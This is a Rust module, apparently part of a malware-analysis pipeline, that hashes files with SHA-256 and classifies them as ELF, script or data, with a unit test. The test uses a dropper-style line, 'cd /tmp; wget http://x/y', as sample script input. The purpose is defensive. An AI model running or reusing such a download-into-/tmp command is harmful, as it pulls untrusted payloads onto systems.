//! What every part says of a file the same way: its SHA-256 (the name of a
//! sample everywhere: store, events, sandboxes) and its coarse kind.

use sha2::{Digest, Sha256};

/// Lower-case hex SHA-256 of `bytes`.
pub fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// `elf`, `script` (a `#!` line, or printable text in its first 512 bytes)
/// or `data`.
pub fn kind(bytes: &[u8]) -> &'static str {
    if bytes.starts_with(b"\x7fELF") {
        "elf"
    } else if bytes.starts_with(b"#!")
        || (!bytes.is_empty()
            && bytes
                .iter()
                .take(512)
                .all(|c| c.is_ascii_graphic() || c.is_ascii_whitespace()))
    {
        "script"
    } else {
        "data"
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_and_kinds() {
        assert_eq!(
            sha256_hex(b"abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(kind(b"\x7fELF\x01"), "elf");
        assert_eq!(kind(b"cd /tmp; wget http://x/y\n"), "script");
        assert_eq!(kind(b"\x00\x01"), "data");
        assert_eq!(kind(b""), "data");
    }
}
